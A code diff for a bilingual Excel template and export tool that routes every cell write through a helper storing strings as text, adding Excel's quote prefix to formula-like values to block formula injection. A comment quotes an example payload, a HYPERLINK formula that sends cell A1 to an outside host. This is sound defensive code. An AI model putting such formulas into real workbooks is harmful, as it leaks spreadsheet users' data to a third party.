@@ -12,16 +12,69 @@ from dataclasses import dataclass, field
 from pathlib import Path
 
 from openpyxl import Workbook
+from openpyxl.cell.cell import Cell
 from openpyxl.comments import Comment
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
 from openpyxl.worksheet.datavalidation import DataValidation
 
+from ..content.clean import UNWANTED
 from ..content.reference import Reference, reference
 
 YES, NO = "是", "否"
 DATA_ROWS = 1000  # dropdowns reach this far down
 LIST_SEPARATORS = r"[、,，;；/\n]+"
+
+# --- writing a cell ---------------------------------------------------------------------------
+# Every workbook the project writes (the template, the XLSX export) goes through `put`: text is
+# stored as a text cell, whatever it looks like. openpyxl on its own turns a string that starts
+# with "=" into a live formula and "#N/A" into an error value; a title like
+# =HYPERLINK("http://x/?"&A1,"click") must stay the words the district typed.
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what spreadsheet programs read as the start of a formula
+EXCEL_CELL_LIMIT = 32_767  # characters in one cell, counted as Excel counts them (UTF-16 code units)
+# A longer text is cut to fit and ends with this mark, so that nobody mistakes the cell for the
+# whole text, and `showcase import` refuses the cell rather than write the cut text back.
+TRUNCATED_MARK = ("…〔已截断：超过 Excel 单元格 32,767 字符的上限，全文见条目文件〕"
+                  "〔truncated at Excel's 32,767-character cell limit; the full text is in the entry file〕")
+
+
+def _excel_length(text: str) -> int:
+    return len(text.encode("utf-16-le")) // 2
+
+
+def cell_text(text: str) -> tuple[str, bool]:
+    """`text` as one cell can hold it, and whether it had to be cut. Characters that XML cannot
+    carry are left out (the loader removes them with a warning; this is the last line of
+    defence, so that a workbook is never refused half-written); a text over Excel's limit is cut
+    at a character boundary and ends with TRUNCATED_MARK."""
+    text = UNWANTED.sub("", text)
+    if len(text) <= EXCEL_CELL_LIMIT // 2 or _excel_length(text) <= EXCEL_CELL_LIMIT:
+        return text, False
+    room = EXCEL_CELL_LIMIT - _excel_length(TRUNCATED_MARK)
+    # cut the UTF-16 form; a character split in two (a surrogate pair) is dropped whole
+    kept = text.encode("utf-16-le")[: 2 * room].decode("utf-16-le", errors="ignore")
+    return kept + TRUNCATED_MARK, True
+
+
+def put(sheet, row: int, column: int, value) -> Cell:
+    """Write one value into a cell: a string always as a text cell (never a formula or an error
+    value), numbers and booleans as themselves. A text that a spreadsheet would take for a
+    formula when the cell is edited also gets Excel's quote prefix (the invisible apostrophe),
+    which keeps it text in Excel and LibreOffice; the value itself is unchanged."""
+    cell = sheet.cell(row=row, column=column)
+    if isinstance(value, str):
+        text, _cut = cell_text(value)
+        if not text:
+            cell.value = None  # an empty cell, not an empty string
+            return cell
+        cell.value = text
+        cell.data_type = "s"  # after the assignment, which guesses "f" for "=..." and "e" for "#N/A"
+        if text.startswith(FORMULA_START):
+            cell.quotePrefix = True
+    else:
+        cell.value = value
+    return cell
 
 
 @dataclass(frozen=True)
@@ -214,16 +267,16 @@ def write_template(path: Path, ref: Reference | None = None) -> None:
     intro.title = INSTRUCTIONS_SHEET
     intro.column_dimensions["A"].width = 110
     for row, (zh, en) in enumerate(INSTRUCTIONS, start=1):
-        intro.cell(row=2 * row - 1, column=1, value=zh).font = Font(bold=row in (1, 3, 11), size=14 if row == 1 else 11)
-        intro.cell(row=2 * row, column=1, value=en).font = Font(italic=True, color="555555")
+        put(intro, 2 * row - 1, 1, zh).font = Font(bold=row in (1, 3, 11), size=14 if row == 1 else 11)
+        put(intro, 2 * row, 1, en).font = Font(italic=True, color="555555")
 
     lists = book.create_sheet(LISTS_SHEET)
     ranges: dict[str, str] = {}
     for index, (name, values) in enumerate(vocabularies(ref).items(), start=1):
         letter = get_column_letter(index)
-        lists.cell(row=1, column=index, value=name)
+        put(lists, 1, index, name)
         for row, value in enumerate(values, start=2):
-            lists.cell(row=row, column=index, value=value)
+            put(lists, row, index, value)
         ranges[name] = f"{LISTS_SHEET}!${letter}$2:${letter}${len(values) + 1}"
     lists.sheet_state = "hidden"
 
@@ -232,7 +285,7 @@ def write_template(path: Path, ref: Reference | None = None) -> None:
     for spec in SHEETS:
         sheet = book.create_sheet(spec.title, index=book.sheetnames.index(LISTS_SHEET))
         for col, column in enumerate(spec.columns, start=1):
-            cell = sheet.cell(row=1, column=col, value=(f"{column.zh} *\n{column.en} *" if column.required else column.header))
+            cell = put(sheet, 1, col, f"{column.zh} *\n{column.en} *" if column.required else column.header)
             cell.font = Font(bold=True)
             cell.fill = header_fill
             cell.alignment = Alignment(wrap_text=True, vertical="top")
@@ -253,7 +306,7 @@ def write_template(path: Path, ref: Reference | None = None) -> None:
         for row, example in enumerate(spec.examples, start=2):
             for col, value in enumerate(example, start=1):
                 if value != "":
-                    sheet.cell(row=row, column=col, value=value).font = example_font
+                    put(sheet, row, col, value).font = example_font
     book.active = book.sheetnames.index(CASES.title)
     temporary = path.with_name(f".{path.name}.tmp")
     book.save(temporary)
